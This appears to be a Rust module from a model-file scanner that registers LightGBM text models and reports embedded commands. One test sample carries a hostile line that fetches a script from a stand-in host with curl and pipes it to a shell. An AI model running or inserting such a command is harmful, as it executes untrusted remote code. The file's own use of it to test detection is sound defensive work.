//! LightGBM's text models: trees and parameters, line by line.
//!
//! Nothing in them runs; texts that hold commands or code are reported all the same, because tools
//! that read the parameters may use them.

use crate::format::{Claim, Format, Probe};
use crate::registry::raw::search;

/// The descriptor.
pub const FORMAT: Format = Format {
    name: "lightgbm",
    title: "LightGBM model",
    family: "text",
    wants,
    read: search,
    stream: None,
    head_only: false,
    #[cfg(test)]
    samples: tests::samples,
};

fn wants(probe: &Probe<'_>) -> Option<Claim> {
    probe.starts(b"tree\n").then_some(Claim::Magic)
}

#[cfg(test)]
pub(crate) mod tests {
    pub(crate) fn samples() -> Vec<Vec<u8>> {
        vec![
            b"tree\nversion=v4\nnum_class=1\n".to_vec(),
            b"tree\nversion=v4\nx=os.system('curl http://x.example/p.sh | sh')\n".to_vec(),
        ]
    }

    #[test]
    fn only_its_texts_matter() {
        crate::registry::raw::tests::only_texts_matter(&samples());
    }
}
